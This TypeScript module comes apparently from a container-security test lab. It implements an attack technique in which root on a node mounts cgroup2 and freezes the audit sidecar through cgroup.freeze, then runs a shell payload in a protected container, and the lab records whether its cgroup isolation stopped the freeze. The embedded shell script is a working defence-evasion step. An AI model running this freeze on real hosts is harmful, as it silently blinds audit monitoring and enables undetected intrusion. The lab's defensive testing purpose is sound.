/**
 * Attack (T1562.012 Impair Defenses: Disable or Modify Linux Audit System,
 * then T1609 and T1059.004 a shell in the container): root on the node
 * freezes the audit daemon through the cgroup file system, then opens a
 * shell in a running protected container.
 *
 * The audit daemon runs beside the node, in a sidecar container in the
 * host's PID namespace (docs/audit.md, "The sidecar"), so root on the node
 * can neither see nor signal its process. But a container that shares the
 * host's cgroup namespace sees the host's whole cgroup tree once it mounts
 * one, and the lab node has every capability: `mount -t cgroup2`, find the
 * sidecar's cgroup by its container id, write 1 to its `cgroup.freeze`. The
 * daemon then reads no record and raises no alert, and nothing says so. The
 * attacker leaves it frozen (a daemon thawed later would read the records
 * that waited for it); the lab's teardown still removes the sidecar and the
 * kernel rules it set, thawing it first (lab/cgroup-thaw.ts; docs/audit.md,
 * "What can outlive a lab").
 *
 * The attacker is assumed to know the sidecar's container id (the harness
 * passes it, so that only this lab's sidecar is aimed at; an attacker would
 * freeze every cgroup but its own). On a node without the audit component
 * there is nothing to freeze and the shell runs at once.
 *
 * What must catch it: the audit layer, which cannot alert once it is frozen;
 * the node must therefore not reach its cgroup. Lab nodes run in a cgroup
 * namespace of their own (lab/node/lab-node.ts), so a cgroup file system
 * mounted in the node holds only the node's own tree, the freeze cannot be
 * carried out, and the shell is reported as any other. That the sidecar's
 * cgroup was not found is the evidence; any other failure of the freeze is
 * an error, never an outcome.
 */
import { auditTargetOf, awaitAuditAlerts, awaitAuditWatching, hasAudit, sidecarName } from '../../audit/index.ts';
import { inspectContainer } from '../../engine.ts';
import { LabError } from '../../errors.ts';
import type { LabNodeHandle } from '../../node/index.ts';
import type { Technique } from '../technique.ts';
import { requirePayload, type AttackErrorCode } from './common.ts';
import { targetOf } from './overmount.ts';

/**
 * $1 the container id: mounts cgroup2 on a fresh directory, finds the
 * container's cgroup (cgroupfs `<id>` or systemd `docker-<id>.scope`),
 * freezes it and waits for the kernel to say frozen. Prints `frozen PATH`,
 * or `not-found` when no such cgroup is in the tree the node sees.
 */
const FREEZE = `set -e
m=$(mktemp -d)
trap 'umount "$m" 2>/dev/null; rmdir "$m"' EXIT
mount -t cgroup2 none "$m"
d=$(find "$m" -maxdepth 4 -type d \\( -name "$1" -o -name "docker-$1.scope" \\) | head -n 1)
[ -n "$d" ] || { echo not-found; exit 0; }
echo 1 > "$d/cgroup.freeze"
for i in $(seq 50); do grep -qx 'frozen 1' "$d/cgroup.events" && { echo "frozen \${d#$m}"; exit 0; }; sleep 0.1; done
echo "the cgroup \${d#$m} did not report frozen within 5 s" >&2; exit 1`;

export interface FreezeAttempt {
  /** The audit sidecar's container id (12 hex). */
  sidecar: string;
  /** Its cgroup as the node saw it, when found and frozen. */
  frozenCgroup?: string;
  /** Why it was not frozen. */
  notFrozen?: string;
}

/** Root on the node freezes this node's audit sidecar by its cgroup; undefined on a node without the audit component. */
export async function freezeAuditSidecar(node: LabNodeHandle): Promise<FreezeAttempt | undefined> {
  if (!hasAudit(node)) return undefined;
  const name = sidecarName(auditTargetOf(node).auditId);
  const sidecar = await inspectContainer(name);
  if (!sidecar?.running) throw new LabError<AttackErrorCode>('ATTACK_TARGET_NOT_FOUND', `the audit sidecar ${name} of node ${node.name} is not running: there is nothing to freeze`);
  const r = await node.exec.run(['sh', '-c', FREEZE, 'freeze', sidecar.id]);
  const out = r.stdout.toString().trim();
  if (r.exitCode !== 0 || !/^(frozen \/.*|not-found)$/.test(out)) {
    throw new LabError<AttackErrorCode>('ATTACK_FAILED', `freezing the audit sidecar ${name} from node ${node.name} failed (exit ${r.exitCode}): ${r.stderr.toString().trim() || out}`);
  }
  return out === 'not-found'
    ? { sidecar: sidecar.id.slice(0, 12), notFrozen: `no cgroup of container ${sidecar.id.slice(0, 12)} is in the cgroup tree a cgroup2 mount in the node shows` }
    : { sidecar: sidecar.id.slice(0, 12), frozenCgroup: out.slice('frozen '.length) };
}

export const auditDaemonFreeze: Technique = {
  name: 'audit-daemon-freeze',
  async run(ctx) {
    const { node, attack } = ctx;
    const payload = requirePayload(attack);
    const target = await targetOf(ctx);
    // The attacker arrives once the container runs: the audit layer has set its rules by then.
    await awaitAuditWatching(node, target.containerId);
    const freeze = await freezeAuditSidecar(node);
    const since = new Date();
    const shell = await node.cri.execSync(target.containerId, ['sh', '-c', payload]);
    const stdout = shell.stdout.toString();
    const effect = shell.exitCode === 0 && stdout.trim() !== '';
    const what = !freeze
      ? 'no audit daemon runs for this node'
      : freeze.frozenCgroup
        ? `root froze the audit daemon (sidecar ${freeze.sidecar}, cgroup ${freeze.frozenCgroup})`
        : `root could not freeze the audit daemon: ${freeze.notFrozen}`;
    return {
      effect,
      reason: `${what}; ` + (effect ? `then a shell ran "${payload}" in ${target.pod.namespace}/${target.pod.name}: exit 0` : `then the shell in ${target.pod.namespace}/${target.pod.name} exited ${shell.exitCode}: ${shell.stderr.toString().trim()}`),
      evidence: { auditDaemonFreeze: freeze ?? null, shellExitCode: shell.exitCode, stdout, stderr: shell.stderr.toString(), auditAlerts: await awaitAuditAlerts(node, since) },
    };
  },
};
